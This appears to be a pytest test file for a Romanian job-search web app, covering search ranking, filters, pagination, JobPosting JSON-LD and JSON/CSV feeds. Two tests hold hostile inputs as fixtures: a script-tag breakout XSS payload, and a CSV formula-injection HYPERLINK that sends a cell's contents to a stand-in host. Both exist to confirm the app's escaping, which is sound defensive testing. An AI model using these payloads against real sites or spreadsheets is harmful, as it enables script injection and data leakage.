"""The public job search, the JobPosting JSON-LD and the JSON/CSV feed."""

import csv
import datetime
import io
import json
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from employers import selectors, services
from employers.models import VacancyStatus
from tests.accounts.factories import UserFactory
from tests.reference.factories import CorOccupationFactory, SkillFactory

from .factories import VacancyFactory

pytestmark = pytest.mark.django_db


def publish(**fields):
    """A vacancy published through the services (so that its search vector is built)."""
    vacancy = VacancyFactory(submitted=True, **fields)
    return services.vacancy_publish(vacancy=vacancy, by=UserFactory(counsellor=True))


def json_ld(response):
    match = re.search(
        r'<script type="application/ld\+json">(.*?)</script>', response.content.decode(), re.S
    )
    return json.loads(match.group(1))


def test_search_finds_published_vacancies_by_words_and_hides_the_others(client):
    baker = publish(title="Brutar pe tura de noapte", description="Coacem pâine")
    publish(title="Contabil", description="Evidență contabilă")
    VacancyFactory(title="Brutar ciornă")  # a draft
    VacancyFactory(title="Brutar trimis", submitted=True)

    response = client.get(reverse("jobs:search"), {"q": "brutar"})

    assert [v.pk for v in response.context["page_obj"]] == [baker.pk]


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL full-text search")
def test_full_text_ranks_a_title_match_above_a_description_match_and_ignores_diacritics(client):
    in_description = publish(title="Ajutor", description="Lucrăm alături de un tâmplar")
    in_title = publish(title="Tâmplar", description="Mobilier")

    response = client.get(reverse("jobs:search"), {"q": "tamplar"})

    assert [v.pk for v in response.context["page_obj"]] == [in_title.pk, in_description.pk]


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL full-text search")
@pytest.mark.parametrize("query", ["sofer", "SOFERI", "șofer", "Şofer", "soferi ploiesti"])
def test_diacritics_are_optional_for_the_searcher(client, query):
    driver = publish(title="Șofer profesionist", description="Transport marfă", locality="Ploiești")
    publish(title="Contabil", description="Evidență")

    response = client.get(reverse("jobs:search"), {"q": query})

    assert [v.pk for v in response.context["page_obj"]] == [driver.pk]


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL full-text search")
def test_the_vector_holds_the_occupation_and_the_skills(client):
    vacancy = publish(
        title="Post nou", cor_occupation=CorOccupationFactory(code="721208", name="Sudor")
    )
    skill = SkillFactory(preferred_labels={"en": "weld metal", "ro": "sudură cu arc"})
    vacancy.vacancy_skills.create(skill=skill, essential=True)
    services.vacancy_search_refresh(vacancy)

    for query in ("sudor", "sudura arc"):
        response = client.get(reverse("jobs:search"), {"q": query})
        assert [v.pk for v in response.context["page_obj"]] == [vacancy.pk], query


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL full-text search")
def test_relevance_ranks_the_stored_vector_without_parsing_it_again(client):
    publish(title="Tâmplar")

    with CaptureQueriesContext(connection) as queries:
        client.get(reverse("jobs:search"), {"q": "tamplar"})

    ranked = [query["sql"] for query in queries if "ts_rank" in query["sql"]]
    assert ranked and not any("to_tsvector" in sql for sql in ranked)


def test_a_broad_search_counts_up_to_the_limit_only(client, monkeypatch):
    monkeypatch.setattr(selectors, "JOB_SEARCH_COUNT_LIMIT", 3)
    for _ in range(5):
        publish(title="Brutar")

    response = client.get(reverse("jobs:search"), {"q": "brutar", "page": "9"})

    paginator = response.context["page_obj"].paginator
    assert paginator.capped and paginator.count == 3
    assert "Over 3 job offers" in response.content.decode()
    monkeypatch.setattr(selectors, "JOB_SEARCH_COUNT_LIMIT", 5)
    response = client.get(reverse("jobs:search"), {"q": "brutar"})
    assert not response.context["page_obj"].paginator.capped
    assert "5 job offers" in response.content.decode()


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL full-text search")
def test_a_broad_search_ranks_its_newest_matches_and_no_older_one(client, monkeypatch):
    monkeypatch.setattr(selectors, "JOB_SEARCH_COUNT_LIMIT", 2)
    oldest = publish(title="Brutar")  # a title match, but the oldest
    in_title = publish(title="Brutar de noapte")
    in_description = [publish(title="Ajutor", description="Ajutor de brutar") for _ in range(2)]
    now = timezone.now()
    for age, vacancy in enumerate([in_description[1], in_description[0], in_title, oldest]):
        vacancy.__class__.objects.filter(pk=vacancy.pk).update(
            published_at=now - datetime.timedelta(minutes=age)
        )

    response = client.get(reverse("jobs:search"), {"q": "brutar"})

    # The newest three (the limit and one more, to know that more match) are ranked, the title
    # match first; the pages reach the first two.
    assert [v.pk for v in response.context["page_obj"]] == [in_title.pk, in_description[1].pk]
    assert response.context["page_obj"].paginator.capped


@pytest.mark.parametrize("order", ["relevance", "date"])
def test_a_search_by_words_takes_as_many_queries_for_few_or_many_results(client, order):
    def queries_for_search():
        with CaptureQueriesContext(connection) as queries:
            response = client.get(reverse("jobs:search"), {"q": "brutar", "order": order})
        assert response.status_code == 200
        return len(queries)

    publish(title="Brutar")
    few = queries_for_search()
    for _ in range(24):
        publish(title="Brutar de noapte")
    assert queries_for_search() == few


def test_filters_by_county_occupation_pay_and_schedule(client):
    cor = CorOccupationFactory(code="512001")
    match = publish(cor_occupation=cor, schedule="part_time", pay_max=7000)
    publish(cor_occupation=cor, schedule="full_time", pay_max=7000)
    publish(schedule="part_time", pay_max=7000)
    publish(cor_occupation=cor, schedule="part_time", pay_min=2000, pay_max=3000)
    publish(cor_occupation=cor, schedule="part_time", county_id="B", pay_max=7000)

    response = client.get(
        reverse("jobs:search"),
        {
            "county": "CJ",
            "occupation": "5120",
            "pay": "5000",
            "schedule": "part_time",
            "order": "date",
        },
    )

    assert [v.pk for v in response.context["page_obj"]] == [match.pk]


def test_search_is_paginated_with_a_fixed_number_of_queries(client, django_assert_max_num_queries):
    for _ in range(25):
        publish()
    with django_assert_max_num_queries(6):
        response = client.get(reverse("jobs:search"), {"order": "date"})
    assert len(response.context["page_obj"]) == 20
    assert (
        len(client.get(reverse("jobs:search"), {"order": "date", "page": 2}).context["page_obj"])
        == 5
    )


def test_an_expired_validity_date_hides_a_vacancy_before_the_nightly_expiry(client):
    vacancy = publish()
    vacancy.valid_until = timezone.localdate() - datetime.timedelta(days=1)
    vacancy.save()

    assert client.get(reverse("jobs:detail", args=[vacancy.pk])).status_code == 404


def test_the_detail_page_carries_a_valid_job_posting(client):
    vacancy = publish(
        title="Sudor", pay_min=5000, pay_max=8000, schedule="full_time", contract_type="fixed_term"
    )
    skill = SkillFactory(preferred_labels={"en": "weld metal"})
    vacancy.vacancy_skills.create(skill=skill, essential=True)

    data = json_ld(client.get(reverse("jobs:detail", args=[vacancy.pk])))

    assert data["@context"] == "https://schema.org" and data["@type"] == "JobPosting"
    assert data["title"] == "Sudor"
    assert data["datePosted"] == timezone.localdate().isoformat()
    assert data["validThrough"].startswith(vacancy.valid_until.isoformat() + "T23:59:59")
    assert data["hiringOrganization"] == {
        "@type": "Organization",
        "name": vacancy.company.name,
        "taxID": vacancy.company.cui,
    }
    assert data["jobLocation"]["address"]["addressRegion"] == "Cluj"
    assert data["jobLocation"]["address"]["addressCountry"] == "RO"
    assert data["baseSalary"]["currency"] == "RON"
    assert data["baseSalary"]["value"] == {
        "@type": "QuantitativeValue",
        "minValue": 5000.0,
        "maxValue": 8000.0,
        "unitText": "MONTH",
    }
    assert data["employmentType"] == ["FULL_TIME", "TEMPORARY"]
    assert data["skills"] == ["weld metal"]


def test_json_ld_cannot_break_out_of_its_script_element(client):
    vacancy = publish(title="</script><script>alert(1)</script>")

    content = client.get(reverse("jobs:detail", args=[vacancy.pk])).content.decode()

    assert "</script><script>alert(1)" not in content
    assert json_ld(client.get(reverse("jobs:detail", args=[vacancy.pk])))["title"] == vacancy.title


def test_the_json_feed_lists_published_vacancies_with_their_skills(client):
    vacancy = publish()
    essential, optional = SkillFactory(), SkillFactory()
    vacancy.vacancy_skills.create(skill=essential, essential=True)
    vacancy.vacancy_skills.create(skill=optional, essential=False)
    vacancy.languages.create(language="de", level="B1")
    VacancyFactory()  # a draft: not in the feed

    payload = client.get(reverse("employers:job_feed_json")).json()

    assert payload["count"] == 1
    (row,) = payload["vacancies"]
    assert row["id"] == vacancy.pk and row["cor_code"] == vacancy.cor_occupation.code
    assert row["url"].endswith(reverse("jobs:detail", args=[vacancy.pk]))
    assert row["essential_skills"] == [essential.uri]
    assert row["optional_skills"] == [optional.uri]
    assert row["languages"] == [{"language": "de", "level": "B1"}]
    assert row["pay_min"] == "6000.00" and row["currency"] == "RON"


def test_the_csv_feed_has_a_header_and_one_row_per_published_vacancy(client):
    vacancy = publish(title="Vânzător, tura 1")
    vacancy.languages.create(language="en", level="A2")
    publish()

    response = client.get(reverse("employers:job_feed_csv"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    row = next(r for r in rows if r["id"] == str(vacancy.pk))
    assert row["title"] == "Vânzător, tura 1" and row["languages"] == "en:A2"


def test_no_csv_cell_is_run_as_a_formula(client):
    vacancy = publish(title='=HYPERLINK("http://rau.example/?"&A1,"click")')

    response = client.get(reverse("employers:job_feed_csv"))

    row = next(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["id"] == str(vacancy.pk)
    assert row["title"] == "'" + vacancy.title


def test_feed_queries_do_not_grow_with_rows(client, django_assert_max_num_queries):
    for _ in range(10):
        vacancy = publish()
        vacancy.vacancy_skills.create(skill=SkillFactory(), essential=True)
    with django_assert_max_num_queries(5):
        assert client.get(reverse("employers:job_feed_json")).json()["count"] == 10


def test_a_closed_vacancy_leaves_the_public_search(client):
    vacancy = publish()
    services.vacancy_withdraw(vacancy=vacancy, by=vacancy.company.memberships.get().user)

    assert vacancy.pk not in [v.pk for v in client.get(reverse("jobs:search")).context["page_obj"]]
    assert VacancyStatus.WITHDRAWN == type(vacancy).objects.get(pk=vacancy.pk).status


def test_the_next_page_of_a_filtered_search_keeps_the_filters(client):
    for _ in range(25):
        publish(county_id="CJ")
    page = client.get(reverse("jobs:search"), {"county": "CJ", "order": "date"})
    next_link = 'href="?county=CJ&amp;order=date&amp;page=2"'
    assert next_link in page.content.decode()
    second = client.get(reverse("jobs:search"), {"county": "CJ", "order": "date", "page": 2})
    assert len(second.context["page_obj"]) == 5
    assert 'href="?county=CJ&amp;order=date&amp;page=1"' in second.content.decode()
